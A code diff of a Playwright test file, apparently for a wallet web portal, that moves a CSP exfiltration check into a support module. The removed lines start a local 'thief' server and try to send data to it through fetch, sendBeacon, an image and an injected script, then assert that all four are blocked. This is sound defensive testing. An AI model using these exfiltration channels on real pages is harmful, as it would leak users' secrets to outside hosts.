@@ -1,11 +1,10 @@
 import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { pathToFileURL } from 'node:url';
 import type { BrowserContext, Page } from '@playwright/test';
 import { mnemonicToAccount } from 'viem/accounts';
 import { distFolder } from '../../scripts/build/dist-folder.ts';
+import { expectNothingSent } from '../support/expect-nothing-sent.ts';
 import { expectAccessible } from '../support/page-errors.ts';
 import { expect, test } from '../support/portal-fixture.ts';
 
@@ -95,48 +94,6 @@ const readStores = (page: Page) =>
       return [];
     }
   });
-
-/** A server of a thief, which counts what reaches it. */
-async function startThief() {
-  let reached = 0;
-  const server = createServer((_, response) => {
-    reached += 1;
-    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  const { port } = server.address() as AddressInfo;
-  return {
-    origin: `http://127.0.0.1:${port}`,
-    reached: () => reached,
-    stop: () => new Promise((resolve) => server.close(resolve)),
-  };
-}
-
-/** Tries to send something in four ways. `listBlocked` in the page lists the addresses that its policy blocked. */
-const tryToSend = (page: Page, origin: string) =>
-  page.evaluate(async (address) => {
-    const blocked = new Set<string>();
-    Object.assign(window, { listBlocked: () => [...blocked].sort() });
-    addEventListener('securitypolicyviolation', ({ blockedURI }) => {
-      blocked.add(new URL(blockedURI).pathname);
-    });
-    await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
-    navigator.sendBeacon(`${address}/beacon`, 'stolen');
-    new Image().src = `${address}/image`;
-    const script = document.createElement('script');
-    script.src = `${address}/script`;
-    document.body.append(script);
-  }, origin);
-
-async function expectNothingSent(page: Page): Promise<void> {
-  const thief = await startThief();
-  await tryToSend(page, thief.origin);
-  const listBlocked = () =>
-    page.evaluate(() => (window as unknown as { listBlocked(): string[] }).listBlocked());
-  await expect.poll(listBlocked).toEqual(['/beacon', '/fetch', '/image', '/script']);
-  expect(thief.reached()).toBe(0);
-  await thief.stop();
-}
 
 let context: BrowserContext;
 let page: Page;
